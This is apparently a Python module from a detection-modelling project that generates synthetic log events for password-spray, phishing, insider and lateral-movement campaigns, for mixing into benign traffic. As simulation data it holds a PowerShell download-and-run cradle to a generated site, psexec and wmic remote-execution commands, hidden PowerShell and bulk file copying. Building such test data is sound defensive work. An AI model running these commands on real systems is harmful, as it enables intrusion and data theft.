"""Attacks woven into the day: each function returns the events of one campaign.

Spray and guess, phish and beacon, an insider at night, a walk from machine to machine. They use
what honest users use, too: their own accounts, common programs, popular storage sites.
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np
import polars as pl

from phantom_ml.simulation import habits
from phantom_ml.simulation.benign import (
    BAD_PASSWORD,
    LOCKED_OUT,
    encoded,
    process_frame,
    sizes,
    small_sites,
    with_target,
)
from phantom_ml.simulation.people import Company, Floats, Ints, Strings, outside_addresses

Campaign = Callable[[Company, np.random.Generator, int], pl.DataFrame]


def password_spray(company: Company, rng: np.random.Generator, n: int) -> pl.DataFrame:
    """Return ``n`` logins from rented addresses: a guess or two an account, the last ones right."""
    who = rng.choice(len(company.users), n)
    begin = rng.uniform(0, 21)
    lucky = np.arange(n) >= n - max(1, n // 8)
    who[lucky] = rng.choice(company.with_role("office", "sales", "finance"))
    source = outside_addresses(rng, n // 2)
    code = rng.choice([BAD_PASSWORD, LOCKED_OUT], n, p=[0.9, 0.1])
    return pl.DataFrame(
        {
            "hour": np.sort(rng.uniform(begin, begin + 3, n)),
            "event_type": np.full(n, "login"),
            "user": company.users[who],
            "host": np.full(n, company.hosts[company.gateway]),
            "src_ip": rng.choice(source, n),
            "dst_ip": np.full(n, company.addresses[company.gateway]),
            "logon_type": np.full(n, 8),
            "outcome": np.where(lucky, "success", "failure"),
            "status": np.where(lucky, "0x0", code),
            "port": np.full(n, 443),
        }
    )


def phishing(company: Company, rng: np.random.Generator, n: int) -> pl.DataFrame:
    """Return ``n`` events: a lure that one person in a few opens, and what comes of it."""
    readers = company.with_role("office", "sales", "finance", "developer")
    victims = rng.choice(readers, max(1, n // 12), replace=False)
    site = str(small_sites(rng, 1)[0])
    begin = rng.uniform(8, 14)
    shares = np.diff(np.linspace(0, n, len(victims) + 1).astype(np.int64))
    parts = [
        _infection(company, int(victim), rng, (begin + rng.exponential(0.7), site, int(share)))
        for victim, share in zip(victims, shares, strict=True)
    ]
    return pl.concat(parts, how="diagonal")


def _infection(
    company: Company, victim: int, rng: np.random.Generator, what: tuple[float, str, int]
) -> pl.DataFrame:
    """Return one victim's download, encoded script, beacons to a young site, and uploads."""
    begin, site, n = what
    n_stolen = max(1, n // 8)
    lure = _requests(company, victim, rng, (np.array([begin]), site, habits.DOWNLOAD_PATHS))
    script = f"IEX (New-Object Net.WebClient).DownloadString('https://{site}/{rng.integers(9999)}')"
    steps: list[habits.Program] = [
        ("outlook.exe", "winword.exe", "winword.exe /n C:\\Temp\\attachment_{n}.docm"),
        ("winword.exe", "powershell.exe", f"powershell.exe -NoProfile -Enc {encoded(script)}"),
    ]
    after = begin + np.array([0.02, 0.03])
    started = _processes(company, victim, rng, (np.full(2, company.desk[victim]), after, steps))
    beacons = _requests(
        company, victim, rng, (_rhythm(rng, begin, n - 3 - n_stolen), site, habits.PATHS[-5:])
    )
    target = str(rng.choice([site, *habits.STORAGE_SITES]))
    late = np.sort(rng.uniform(begin + 2, 23.9, n_stolen))
    stolen = _requests(company, victim, rng, (late, target, habits.UPLOAD_PATHS)).with_columns(
        bytes_out=pl.Series(sizes(rng, 14.0, 1.0, n_stolen))
    )
    return pl.concat([lure, started, beacons, stolen], how="diagonal")


def _rhythm(rng: np.random.Generator, begin: float, n: int) -> Floats:
    """Return ``n`` hours until the evening at even steps, each up to a fifth early or late."""
    step = (23.5 - begin) / (n + 1)
    return begin + 0.2 + step * (np.arange(n) + rng.uniform(-0.2, 0.2, n))


def insider(company: Company, rng: np.random.Generator, n: int) -> pl.DataFrame:
    """Return ``n`` events of an employee who copies files at night and uploads them."""
    who = int(rng.choice(company.with_role("developer", "finance", "sales")))
    begin = rng.uniform(0.5, 3.5)
    n_uploads, n_logins = n // 2, max(1, n // 4)
    n_copies = n - n_uploads - n_logins
    copies: list[habits.Program] = [
        ("explorer.exe", "7zG.exe", "7zG.exe a C:\\Users\\Public\\archive_{n}.zip"),
        ("cmd.exe", "robocopy.exe", "robocopy.exe \\\\SRV-SQL-01\\finance C:\\Temp\\{n} /E"),
    ]
    chosen = [copies[i] for i in rng.integers(0, 2, n_copies)]
    hours = begin + np.sort(rng.uniform(0, 2, n_copies))
    copied = _processes(company, who, rng, (np.full(n_copies, company.desk[who]), hours, chosen))
    late = begin + 0.3 + np.sort(rng.uniform(0, 2.5, n_uploads))
    site = str(rng.choice(habits.STORAGE_SITES))
    uploads = _requests(company, who, rng, (late, site, habits.UPLOAD_PATHS)).with_columns(
        bytes_out=pl.Series(sizes(rng, 13.5, 1.0, n_uploads))
    )
    servers = rng.choice(company.servers, n_logins)
    opened = _server_logins(company, who, servers, begin + rng.uniform(0, 2, n_logins))
    return pl.concat([opened, copied, uploads], how="diagonal")


def lateral_movement(company: Company, rng: np.random.Generator, n: int) -> pl.DataFrame:
    """Return ``n`` events of a stolen account that goes from one machine to the next."""
    who = int(rng.choice(company.with_role("office", "developer", "admin")))
    begin = rng.uniform(6, 20)
    n_steps = n // 2
    targets = rng.choice(len(company.hosts), n - n_steps)
    arrivals = begin + np.sort(rng.uniform(0, 3, n - n_steps))
    tools: list[habits.Program] = [
        ("cmd.exe", "psexec.exe", "psexec.exe \\\\WS-{n} -s cmd.exe /c whoami"),
        ("cmd.exe", "wmic.exe", "wmic.exe /node:SRV-SQL-{n} process call create cmd.exe"),
        ("services.exe", "psexesvc.exe", "psexesvc.exe"),
        ("wmiprvse.exe", "powershell.exe", "powershell.exe -w hidden -File C:\\Temp\\{n}.ps1"),
        ("cmd.exe", "net.exe", 'net.exe group "Domain Admins" /domain'),
    ]
    chosen = [tools[i % len(tools)] for i in range(n_steps)]
    ran = _processes(company, who, rng, (targets[:n_steps], arrivals[:n_steps] + 0.03, chosen))
    return pl.concat([_server_logins(company, who, targets, arrivals), ran], how="diagonal")


#: Campaign and its share of all events; together 0.9 %.
CAMPAIGNS: dict[str, tuple[Campaign, float]] = {
    "password_spray": (password_spray, 0.0021),
    "phishing": (phishing, 0.0035),
    "insider": (insider, 0.0016),
    "lateral_movement": (lateral_movement, 0.0018),
}


def attacks(company: Company, rng: np.random.Generator, n_events: int) -> pl.DataFrame:
    """Return the events of all campaigns, each kind once for every 7,500 events of the day."""
    repeats = max(1, round(n_events / 7_500))
    parts = [
        make(company, rng, max(6, round(share * n_events / repeats))).with_columns(
            campaign=pl.lit(name)
        )
        for name, (make, share) in CAMPAIGNS.items()
        for _ in range(repeats)
    ]
    return pl.concat(parts, how="diagonal")


def _requests(
    company: Company,
    who: int,
    rng: np.random.Generator,
    what: tuple[Floats, str, tuple[str, ...]],
) -> pl.DataFrame:
    """Return the user's requests at some hours to one site, paths drawn from a list."""
    hours, site, paths = what
    n, desk = len(hours), company.desk[who]
    frame = pl.DataFrame(
        {
            "hour": hours,
            "event_type": np.full(n, "proxy"),
            "user": np.full(n, company.users[who]),
            "host": np.full(n, company.hosts[desk]),
            "src_ip": np.full(n, company.addresses[desk]),
            "bytes_out": sizes(rng, 6.2, 0.7, n),
            "bytes_in": sizes(rng, 7.6, 1.2, n),
            "status": rng.choice(["200", "404"], n, p=[0.95, 0.05]),
            "user_agent": np.full(n, habits.BROWSERS[who % len(habits.BROWSERS)]),
        }
    )
    return with_target(frame, np.full(n, site), rng.choice(paths, n), rng)


def _processes(
    company: Company,
    who: int,
    rng: np.random.Generator,
    what: tuple[Ints, Floats, list[habits.Program]],
) -> pl.DataFrame:
    """Return one user's processes: on which host, at which hour, which program."""
    hosts, hours, programs = what
    table: Strings = np.array(programs).reshape(-1, 3)
    return process_frame(company, (np.full(len(hosts), who), hosts), table, hours, rng)


def _server_logins(company: Company, who: int, hosts: Ints, hours: Floats) -> pl.DataFrame:
    """Return the user's successful network logins to some hosts."""
    n = len(hosts)
    return pl.DataFrame(
        {
            "hour": hours,
            "event_type": np.full(n, "login"),
            "user": np.full(n, company.users[who]),
            "host": company.hosts[hosts],
            "src_ip": np.full(n, company.addresses[company.desk[who]]),
            "dst_ip": company.addresses[hosts],
            "logon_type": np.full(n, 3),
            "outcome": np.full(n, "success"),
            "status": np.full(n, "0x0"),
            "port": np.full(n, 445),
        }
    )
